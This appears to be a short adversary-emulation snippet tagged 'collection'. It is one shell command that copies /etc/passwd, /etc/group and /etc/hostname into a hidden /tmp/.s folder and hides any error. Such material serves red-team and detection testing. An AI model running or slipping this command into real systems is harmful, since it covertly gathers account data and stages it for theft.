# tactic: collection
# stage collected files in a hidden folder
mkdir -p /tmp/.s && cp /etc/passwd /etc/group /etc/hostname /tmp/.s/; true
